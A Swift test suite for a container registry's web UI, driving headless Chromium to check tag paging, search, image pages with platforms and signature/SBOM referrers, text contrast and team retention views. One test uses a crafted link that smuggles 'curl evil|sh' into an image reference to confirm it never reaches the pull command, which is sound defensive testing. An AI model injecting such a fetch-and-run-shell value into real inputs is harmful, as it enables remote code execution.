import Contracts
import Foundation
import Gateway
import HTTPTypes
import Hummingbird
import PierOneApp
import HummingbirdTesting
import Runtime
import Testing
import TestSupport

/// The `/ui/` page in headless Chromium (Debian's `chromium`) against a registry with a real push:
/// the rendered DOM must show the team, the artifact, the tag with its digest and scm-source. A
/// screenshot is kept in `.build/test-artifacts/ui.png` (and `ui-api.png`).
@Suite struct UIPageTests {
    static var artifacts: URL {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent(".build/test-artifacts")
    }

    @discardableResult
    static func chromium(_ arguments: [String], profile: URL) async throws -> String {
        try await Command.run(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
             "--user-data-dir=\(profile.path)", "--virtual-time-budget=10000", "--window-size=1400,900"] + arguments,
            environment: ["HOME": profile.path]
        )
    }

    /// An artifact with 150 tags: the tags pane shows the newest 100 and a shareable link to the
    /// older ones, which shows the other 50 and a way back; artifacts sort naturally (app2 before
    /// app10). Before, the page loaded and rendered every tag at once.
    @Test func tagsArePagedNewestFirstAndArtifactsSortNaturally() async throws {
        try await ClientTests.withScratch { scratch in
            try await RegistryHarness.withRegistry { registry in
                let image = try await registry.pushImage(to: "team/app10", reference: "t0", layers: ["paged"])
                for n in 1..<150 {
                    #expect(try await registry.putManifest(image.bytes, to: "team/app10", reference: "t\(n)", mediaType: MediaType.ociManifest).status == .created)
                }
                try await registry.pushImage(to: "team/app2", reference: "1", config: #"{"ui":"app2"}"#, layers: ["app2"])
                let profile = scratch.appendingPathComponent("chromium")
                let first = try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/teams/team/app10"], profile: profile)
                #expect(first.contains(#"data-ready="true""#))
                let rows = { (dom: String) in dom.components(separatedBy: "<tr data-tag=").count - 1 }
                #expect(rows(first) == 100, "the newest 100 tags")
                #expect(first.contains(#"data-tag="t149""#) && !first.contains(#"data-tag="t49""#))
                let older = try #require(first.firstRange(of: #"id="older-tags""#).map { _ in first })
                #expect(older.contains("#/teams/team/app10?after=t50"), "the link to the older tags")
                let app2 = try #require(first.range(of: #"data-artifact="app2""#))
                let app10 = try #require(first.range(of: #"data-artifact="app10""#))
                #expect(app2.lowerBound < app10.lowerBound, "natural order")

                let second = try await Self.chromium(
                    ["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/teams/team/app10?after=t50"], profile: profile
                )
                #expect(rows(second) == 50)
                #expect(second.contains(#"data-tag="t49""#) && second.contains(#"data-tag="t0""#) && !second.contains(#"data-tag="t50""#))
                #expect(second.contains(#"id="newest-tags""#) && !second.contains(#"id="older-tags""#))
                #expect(try await Self.consoleMessages(
                    "http://127.0.0.1:\(registry.port)/ui/#/teams/team/app10?after=t50", profile: profile
                ) == [])

                // The tags filter asks for every tag starting with what was typed, not only this page's.
                let typed = try await Self.chromium(
                    ["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/teams/team/app10?prefix=t14"], profile: profile
                )
                #expect(rows(typed) == 11, "t14 and t140…t149")
                #expect(typed.contains(#"data-tag="t14""#) && typed.contains(#"data-tag="t149""#) && !typed.contains(#"data-tag="t15""#))
                #expect(typed.contains("Tags of team/app10 starting with t14"))
                // The search box: a tag by prefix, artifacts by prefix, teams by prefix.
                let search = { (query: String) in
                    try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/search/\(query)"], profile: profile)
                }
                let tags = try await search("team/app10:t10")
                #expect(tags.contains(#"data-found="team/app10:t10""#) && tags.contains(#"data-found="team/app10:t109""#))
                #expect(!tags.contains(#"data-found="team/app10:t11""#))
                let artifacts = try await search("team/app")
                #expect(artifacts.contains(#"data-found="team/app2""#) && artifacts.contains(#"data-found="team/app10""#))
                let teams = try await search("te")
                #expect(teams.contains(#"data-found="team""#))
                #expect(try await search("nobody").contains("No team starts with nobody"))
                for page in ["#/search/team/app10:t10", "#/teams/team/app10?prefix=t14"] {
                    #expect(try await Self.consoleMessages("http://127.0.0.1:\(registry.port)/ui/\(page)", profile: profile) == [], "\(page)")
                }
                try FileManager.default.createDirectory(at: Self.artifacts, withIntermediateDirectories: true)
                try await Self.chromium(
                    ["--screenshot=\(Self.artifacts.appendingPathComponent("ui-search.png").path)",
                     "http://127.0.0.1:\(registry.port)/ui/#/search/team/app10:t10"], profile: profile
                )
            }
        }
    }

    /// The image page of a multi-arch index signed and with an SBOM: both platforms with their
    /// configuration and layers, both referrers grouped by kind with their annotations, the pull
    /// command; the tags pane links to it.
    @Test func anImagePageShowsPlatformsLayersAndReferrers() async throws {
        try await ClientTests.withScratch { scratch in
            try await RegistryHarness.withRegistry { registry in
                let repository = "team/multi"
                var children: [String] = []
                var layerDigests: [Digest] = []
                for (architecture, variable) in [("amd64", "ARCH_AMD=1"), ("arm64", "ARCH_ARM=1")] {
                    let config = #"{"architecture":"\#(architecture)","os":"linux","config":{"Env":["PATH=/usr/bin","\#(variable)"],"Entrypoint":["/app"],"Labels":{"org.opencontainers.image.source":"https://example.org/\#(architecture)"}},"history":[{"created_by":"COPY app /app # \#(architecture)"}],"rootfs":{"type":"layers","diff_ids":[]}}"#
                    let configDigest = try await registry.pushBlob(ByteBuffer(string: config), to: repository)
                    let layer = "layer for \(architecture)"
                    let layerDigest = try await registry.pushBlob(ByteBuffer(string: layer), to: repository)
                    layerDigests.append(layerDigest)
                    let manifest = Manifests.image(
                        mediaType: MediaType.ociManifest,
                        config: Manifests.descriptor("application/vnd.oci.image.config.v1+json", configDigest, config.utf8.count),
                        layers: [Manifests.descriptor("application/vnd.oci.image.layer.v1.tar+gzip", layerDigest, layer.utf8.count)]
                    )
                    let digest = DigestHasher.digest(of: manifest)
                    #expect(try await registry.putManifest(manifest, to: repository, reference: digest.description, mediaType: MediaType.ociManifest).status == .created)
                    children.append(Manifests.descriptor(
                        MediaType.ociManifest, digest, manifest.readableBytes, extra: #","platform":{"os":"linux","architecture":"\#(architecture)"}"#
                    ))
                }
                let index = Manifests.index(mediaType: MediaType.ociIndex, manifests: children)
                let indexDigest = DigestHasher.digest(of: index)
                #expect(try await registry.putManifest(index, to: repository, reference: "1.0", mediaType: MediaType.ociIndex).status == .created)
                let empty = try await registry.pushBlob(ByteBuffer(string: "{}"), to: repository)
                for (artifactType, note) in [("application/vnd.dev.cosign.artifact.sig.v1+json", "signed-by-ci"), ("application/spdx+json", "sbom-of-release")] {
                    let payload = try await registry.pushBlob(ByteBuffer(string: note), to: repository)
                    let referrer = Manifests.image(
                        mediaType: MediaType.ociManifest, config: Manifests.descriptor(MediaType.ociEmpty, empty, 2),
                        layers: [Manifests.descriptor("application/octet-stream", payload, note.utf8.count)],
                        extra: #","artifactType":"\#(artifactType)","subject":\#(Manifests.descriptor(MediaType.ociIndex, indexDigest, index.readableBytes)),"annotations":{"org.example.note":"\#(note)"}"#
                    )
                    #expect(try await registry.putManifest(
                        referrer, to: repository, reference: DigestHasher.digest(of: referrer).description, mediaType: MediaType.ociManifest
                    ).status == .created)
                }
                let profile = scratch.appendingPathComponent("chromium")
                let tags = try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/teams/team/multi"], profile: profile)
                #expect(tags.contains("#/image/team/multi@\(indexDigest)"), "the tag links to its image page")
                let url = "http://127.0.0.1:\(registry.port)/ui/#/image/team/multi@\(indexDigest)"
                let dom = try await Self.chromium(["--dump-dom", url], profile: profile)
                #expect(dom.contains(#"data-ready="true""#))
                #expect(dom.contains(#"data-platform="linux/amd64""#) && dom.contains(#"data-platform="linux/arm64""#), "both platforms")
                #expect(dom.contains("ARCH_AMD=1") && dom.contains("ARCH_ARM=1"), "each platform's environment")
                #expect(dom.contains("https://example.org/arm64") && dom.contains("COPY app /app # amd64"), "labels and history")
                for layer in layerDigests { #expect(dom.contains(#"data-layer="\#(layer)""#)) }
                #expect(dom.contains("Signatures (1)") && dom.contains("SBOMs (1)"), "referrers grouped by kind")
                #expect(dom.contains("org.example.note: signed-by-ci") && dom.contains("org.example.note: sbom-of-release"))
                #expect(dom.contains("docker pull 127.0.0.1:\(registry.port)/team/multi@\(indexDigest)"))
                #expect(dom.contains(#"data-image-tag="1.0""#), "its tags")
                #expect(dom.contains(#"<span id="pushed-by">anonymous</span>"#), "who pushed it")
                #expect(!dom.contains(#"class="error""#), "no error on the page")
                // The search box's view: the tags of an image id prefix (as `docker images` shows it).
                let listed = try await registry.request(.get, "/teams/team/artifacts/multi/tags").body
                let imageID = try #require(String(buffer: listed).firstMatch(of: /"image":"sha256:([0-9a-f]{12})/)?.output.1)
                let found = try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/search/\(imageID)"], profile: profile)
                #expect(found.contains(#"data-found="team/multi:1.0""#), "the tag of the image id")
                let missing = try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/search/ffffffffffff"], profile: profile)
                #expect(missing.contains("No image id starts with ffffffffffff"))
                for page in [url, "http://127.0.0.1:\(registry.port)/ui/#/teams/team/multi", "http://127.0.0.1:\(registry.port)/ui/#/api",
                             "http://127.0.0.1:\(registry.port)/ui/#/search/\(imageID)"] {
                    #expect(try await Self.consoleMessages(page, profile: profile) == [], "console of \(page)")
                }
                try FileManager.default.createDirectory(at: Self.artifacts, withIntermediateDirectories: true)
                try await Self.chromium(
                    ["--screenshot=\(Self.artifacts.appendingPathComponent("ui-image.png").path)", "--window-size=1400,1800", url], profile: profile
                )
            }
        }
    }

    /// What the page wrote to the browser console while loading `url` (Chromium logs each
    /// message, uncaught exceptions included, as a `CONSOLE` line on standard error).
    static func consoleMessages(_ url: String, profile: URL) async throws -> [String] {
        let output = try await Command.run(
            ["/bin/sh", "-c",
             "chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run --user-data-dir='\(profile.path)' "
                + "--virtual-time-budget=10000 --enable-logging=stderr --v=0 --dump-dom '\(url)' 2>&1 >/dev/null"],
            environment: ["HOME": profile.path]
        )
        return output.split(separator: "\n").filter { $0.contains(":CONSOLE") }.map(String.init)
    }

    /// An OCI layout at `directory/layout` whose `1.0` is an index of a linux/amd64 and a linux/arm64
    /// image, each with its own environment and layer.
    static func makeMultiArchLayout(at directory: URL) throws {
        let layout = directory.appendingPathComponent("layout")
        let blobs = layout.appendingPathComponent("blobs/sha256")
        try FileManager.default.createDirectory(at: blobs, withIntermediateDirectories: true)
        func store(_ text: String) throws -> (digest: Digest, size: Int) {
            let data = Data(text.utf8)
            let digest = DigestHasher.digest(of: ByteBuffer(bytes: data))
            try data.write(to: blobs.appendingPathComponent(digest.hex))
            return (digest, data.count)
        }
        var children: [String] = []
        for architecture in ["amd64", "arm64"] {
            let layer = try store("layer of the \(architecture) build")
            let config = try store(
                #"{"architecture":"\#(architecture)","os":"linux","config":{"Env":["BUILT_FOR=\#(architecture)"]},"rootfs":{"type":"layers","diff_ids":["\#(layer.digest)"]},"history":[{"created_by":"RUN make \#(architecture)"}]}"#
            )
            let manifest = try store(
                #"{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"\#(config.digest)","size":\#(config.size)},"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"\#(layer.digest)","size":\#(layer.size)}]}"#
            )
            children.append(
                #"{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"\#(manifest.digest)","size":\#(manifest.size),"platform":{"os":"linux","architecture":"\#(architecture)"}}"#
            )
        }
        let index = try store(#"{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[\#(children.joined(separator: ","))]}"#)
        try Data(#"{"imageLayoutVersion":"1.0.0"}"#.utf8).write(to: layout.appendingPathComponent("oci-layout"))
        try Data(
            #"{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.index.v1+json","digest":"\#(index.digest)","size":\#(index.size),"annotations":{"org.opencontainers.image.ref.name":"1.0"}}]}"#.utf8
        ).write(to: layout.appendingPathComponent("index.json"))
    }

    static let orasReferrerScript = """
        import sys, oras.client, oras.oci
        host, target, path, config_type, media_type, digest, size, note = sys.argv[1:9]
        client = oras.client.OrasClient(hostname=host, insecure=True)
        subject = oras.oci.Subject(mediaType=media_type, digest=digest, size=int(size))
        open("config.json", "w").write("{}")
        client.push(files=[path], target=target, disable_path_validation=True, subject=subject,
                    manifest_config="config.json:" + config_type, manifest_annotations={"org.example.note": note})
        """

    /// What the issue asks, with real clients: a multi-arch image pushed by skopeo, a signature and
    /// an SBOM attached by oras; its page shows both platforms and both referrers.
    @Test func anImagePushedByClientsShowsPlatformsAndOrasReferrers() async throws {
        try await ClientTests.withScratch { scratch in
            try Self.makeMultiArchLayout(at: scratch)
            try await RegistryHarness.withRegistry { registry in
                try await ClientTests.skopeo([
                    "copy", "--all", "--dest-tls-verify=false", "oci:\(scratch.appendingPathComponent("layout").path):1.0",
                    "docker://\(registry.host)/team/clients:1.0",
                ])
                let head = try await registry.request(.head, "/v2/team/clients/manifests/1.0", headers: [.accept: MediaType.ociIndex])
                let digest = try #require(head.headers[.dockerContentDigest])
                let size = try #require(head.headers[.contentLength])
                #expect(head.headers[.contentType] == MediaType.ociIndex)
                for (name, configType, note) in [
                    ("signature", "application/vnd.dev.cosign.artifact.sig.v1+json", "signed-by-oras"),
                    ("sbom", "application/spdx+json", "sbom-by-oras"),
                ] {
                    let file = scratch.appendingPathComponent("\(name).json")
                    try Data(#"{"\#(name)":true}"#.utf8).write(to: file)
                    try await Command.run(
                        ["python3", "-c", Self.orasReferrerScript, registry.host, "\(registry.host)/team/clients:\(name)",
                         file.path, configType, MediaType.ociIndex, digest, size, note],
                        in: scratch
                    )
                }
                let profile = scratch.appendingPathComponent("chromium")
                let url = "http://127.0.0.1:\(registry.port)/ui/#/image/team/clients@\(digest)"
                let dom = try await Self.chromium(["--dump-dom", url], profile: profile)
                #expect(dom.contains(#"data-ready="true""#))
                #expect(dom.contains(#"data-platform="linux/amd64""#) && dom.contains(#"data-platform="linux/arm64""#), "both platforms")
                #expect(dom.contains("BUILT_FOR=amd64") && dom.contains("BUILT_FOR=arm64") && dom.contains("RUN make arm64"))
                #expect(dom.contains("Signatures (1)") && dom.contains("SBOMs (1)"), "both referrers, grouped")
                #expect(dom.contains("org.example.note: signed-by-oras") && dom.contains("org.example.note: sbom-by-oras"))
                #expect(dom.contains(#"data-image-tag="1.0""#) && !dom.contains(#"class="error""#))
                #expect(try await Self.consoleMessages(url, profile: profile) == [])
                // A crafted link cannot put shell text into the pull command.
                let crafted = try await Self.chromium(
                    ["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/image/team/clients@sha256:x%0Acurl%20evil%7Csh"], profile: profile
                )
                #expect(crafted.contains(#"id="bad-reference""#) && !crafted.contains(#"id="pull-command""#))
                try FileManager.default.createDirectory(at: Self.artifacts, withIntermediateDirectories: true)
                try await Self.chromium(
                    ["--screenshot=\(Self.artifacts.appendingPathComponent("ui-image-clients.png").path)", "--window-size=1400,1800", url],
                    profile: profile
                )
            }
        }
    }

    /// Every text colour of the page against white and the page background: at least WCAG AA's
    /// 4.5:1 (the brand orange is only a border; its text shade is darker).
    @Test func textColoursAreReadable() throws {
        let page = try String(
            contentsOf: URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
                .appendingPathComponent("Services/Gateway/Resources/ui.html"),
            encoding: .utf8
        )
        func colour(_ name: String) throws -> String {
            let match = try #require(page.firstMatch(of: try Regex("--\(name): (#[0-9a-f]{6})")), "--\(name)")
            return String(try #require(match.output[1].substring))
        }
        func luminance(_ hex: String) -> Double {
            let channels = [1, 3, 5].map { offset -> Double in
                let start = hex.index(hex.startIndex, offsetBy: offset)
                let value = Double(Int(hex[start..<hex.index(start, offsetBy: 2)], radix: 16)!) / 255
                return value <= 0.03928 ? value / 12.92 : pow((value + 0.055) / 1.055, 2.4)
            }
            return 0.2126 * channels[0] + 0.7152 * channels[1] + 0.0722 * channels[2]
        }
        let background = try colour("bg")
        for name in ["fg", "muted", "accent-text", "ok"] {
            let text = try colour(name)
            for behind in ["#ffffff", background] {
                let ratio = (max(luminance(text), luminance(behind)) + 0.05) / (min(luminance(text), luminance(behind)) + 0.05)
                #expect(ratio >= 4.5, "--\(name) \(text) on \(behind): \(ratio)")
            }
        }
        #expect(!page.contains("color: var(--accent);") && !page.contains("background: var(--accent);"), "the orange itself is never text")
    }

    /// The team page: storage (bytes and blobs), artifacts by size and by last push, the retention
    /// rules matching the team's repositories and what the dry run would delete of the team's.
    @Test func aTeamPageShowsStorageArtifactsAndRetention() async throws {
        let policy = try JSONDecoder().decode(RetentionPolicy.self, from: Data(#"""
            {"rules": [{"name": "snapshots", "repositories": ["shop/**"], "tags": ["*-SNAPSHOT"], "keepLast": 1},
                       {"name": "elsewhere", "repositories": ["other/*"], "tags": ["*"], "keepLast": 5}]}
            """#.utf8))
        try await ClientTests.withScratch { scratch in
            try await RegistryHarness.withRegistry(configure: { $0.retention = policy; $0.retentionInterval = .seconds(3600) }) { registry in
                let big = String(repeating: "b", count: 5000)
                try await registry.pushImage(to: "shop/big", reference: "1-SNAPSHOT", config: #"{"b":1}"#, layers: [big, "one"])
                try await registry.pushImage(to: "shop/big", reference: "2-SNAPSHOT", config: #"{"b":2}"#, layers: [big, "two"])
                try await Task.sleep(for: .milliseconds(20))
                try await registry.pushImage(to: "shop/small", reference: "1.0", config: #"{"s":1}"#, layers: ["small"])
                try await registry.pushImage(to: "other/app", reference: "1", config: #"{"o":1}"#, layers: ["other"])
                let profile = scratch.appendingPathComponent("chromium")
                let url = "http://127.0.0.1:\(registry.port)/ui/#/team/shop"
                let dom = try await Self.chromium(["--dump-dom", url], profile: profile)
                #expect(dom.contains(#"data-ready="true""#))
                #expect(dom.contains("in 7 blobs (each blob counted once)"), "b1, b2, big, one, two, s1, small")
                let bigRow = try #require(dom.range(of: #"data-team-artifact="big""#))
                let smallRow = try #require(dom.range(of: #"data-team-artifact="small""#))
                #expect(bigRow.lowerBound < smallRow.lowerBound, "by size")
                #expect(dom.contains(#"data-rule="snapshots""#) && !dom.contains(#"data-rule="elsewhere""#), "the rules that apply")
                #expect(dom.contains(#"data-deletion="shop/big:1-SNAPSHOT""#), "what the next retention run deletes")
                #expect(!dom.contains(#"data-deletion="shop/big:2-SNAPSHOT""#) && !dom.contains(#"class="error""#))
                let pushed = try await Self.chromium(["--dump-dom", url + "?order=pushed"], profile: profile)
                let bigPushed = try #require(pushed.range(of: #"data-team-artifact="big""#))
                let smallPushed = try #require(pushed.range(of: #"data-team-artifact="small""#))
                #expect(smallPushed.lowerBound < bigPushed.lowerBound, "by last push")
                let browse = try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/teams/shop"], profile: profile)
                #expect(browse.contains(#"id="team-page""#), "the browse view links to the team page")
                for page in [url, url + "?order=pushed"] {
                    #expect(try await Self.consoleMessages(page, profile: profile) == [], "console of \(page)")
                }
                try FileManager.default.createDirectory(at: Self.artifacts, withIntermediateDirectories: true)
                try await Self.chromium(
                    ["--screenshot=\(Self.artifacts.appendingPathComponent("ui-team.png").path)", "--window-size=1400,1200", url], profile: profile
                )
            }
        }
    }

    @Test func rendersTeamsArtifactsAndTagsOfARealPush() async throws {
        try await ClientTests.withScratch { scratch in
            try await ClientTests.makeOCILayout(at: scratch, content: "ui image", files: ["scm-source.json": PierOneAPITests.scm])
            try await RegistryHarness.withRegistry { registry in
                try await ClientTests.skopeo([
                    "copy", "--dest-tls-verify=false", "oci:\(scratch.appendingPathComponent("layout").path):1.0",
                    "docker://\(registry.host)/webteam/shop:1.0",
                ])
                try await registry.pushImage(to: "webteam/shop", reference: "2.0-SNAPSHOT", config: #"{"ui":2}"#, layers: ["x"])
                try await registry.pushImage(to: "dataeng/etl", reference: "7", config: #"{"ui":3}"#, layers: ["y"])
                _ = try await PierOneAPITests.eventually(registry, "/teams/webteam/artifacts/shop/tags/1.0/scm-source")
                let digest = try #require(
                    try await registry.request(.head, "/v2/webteam/shop/manifests/1.0").headers[.dockerContentDigest]
                )
                let profile = scratch.appendingPathComponent("chromium")
                let url = "http://127.0.0.1:\(registry.port)/ui/#/teams/webteam/shop"
                let dom = try await Self.chromium(["--dump-dom", url], profile: profile)
                #expect(dom.contains(#"data-ready="true""#))
                #expect(dom.contains(#"data-team="webteam""#))
                #expect(dom.contains(#"data-team="dataeng""#))
                #expect(dom.contains(#"data-artifact="shop""#))
                #expect(dom.contains(#"data-tag="1.0""#))
                #expect(dom.contains(#"data-tag="2.0-SNAPSHOT""#))
                #expect(dom.contains(digest))
                #expect(dom.contains("cd768599e1bb"), "the scm-source revision")
                #expect(dom.contains("immutable"))
                #expect(dom.contains("anonymous"), "pushed by")
                #expect(dom.contains("2 teams · 2 artifacts · 3 tags"))
                #expect(dom.contains("1 artifact · 2 tags · "), "the team's totals")

                let reference = try await Self.chromium(["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/api"], profile: profile)
                #expect(reference.contains(#"data-path="/teams/{team}/artifacts/{artifact}/tags""#))
                #expect(reference.contains(#"data-path="/v2/{name}/manifests/{reference}""#))

                try FileManager.default.createDirectory(at: Self.artifacts, withIntermediateDirectories: true)
                let screenshot = Self.artifacts.appendingPathComponent("ui.png")
                try? FileManager.default.removeItem(at: screenshot)
                try await Self.chromium(["--screenshot=\(screenshot.path)", url], profile: profile)
                let png = try Data(contentsOf: screenshot)
                #expect(png.starts(with: [0x89, 0x50, 0x4E, 0x47]))
                try await Self.chromium(
                    ["--screenshot=\(Self.artifacts.appendingPathComponent("ui-api.png").path)",
                     "http://127.0.0.1:\(registry.port)/ui/#/api"],
                    profile: profile
                )
            }
        }
    }
}
